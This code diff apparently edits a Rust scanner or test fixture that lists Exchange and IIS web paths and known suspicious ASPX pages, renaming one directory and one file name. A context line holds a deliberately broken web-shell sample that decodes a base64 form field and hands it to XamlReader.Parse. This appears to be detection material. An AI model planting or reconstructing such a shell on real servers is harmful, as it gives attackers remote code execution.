@@ -27,7 +27,7 @@ const PREMIUM: Place = product(
 const CALENDAR: Place = product("FrontEnd\\HttpProxy\\owa\\Calendar", "/owa/Calendar", "Owa");
 const POWERSHELL: Place = product("FrontEnd\\HttpProxy\\PowerShell", "/PowerShell", "PowerShell");
 const RESERVED: Place = site("aspnet_client\\COM1", "/aspnet_client/COM1");
-const PICTURES: Place = site("aspnet_client\\img", "/aspnet_client/img");
+const PICTURES: Place = site("aspnet_client\\gallery", "/aspnet_client/gallery");
 const APP_CODE: Place = site("App_Code", "/App_Code");
 
 /// The page that the address book's download writes.
@@ -69,7 +69,7 @@ pub(super) const ODD_CODE: [OddPage; 10] = [
     ),
     OddPage::new(
         CLIENT,
-        "layout.aspx",
+        "panelview.aspx",
         "builds whatever objects the request describes",
         "<%@ Page Language=\"C#\" %><%@ Assembly Name=\"PresentationFramework,Version=4.0.0.0,Culture=neutral,PublicKeyToken=31bf3856ad364e35\" %><%System.Windows.Markup.Xaml¦Reader.Parse(Encoding.UTF8.GetString(Convert.From¦Base64String(Req¦uest.Form[\"x\"])));%>",
     ),
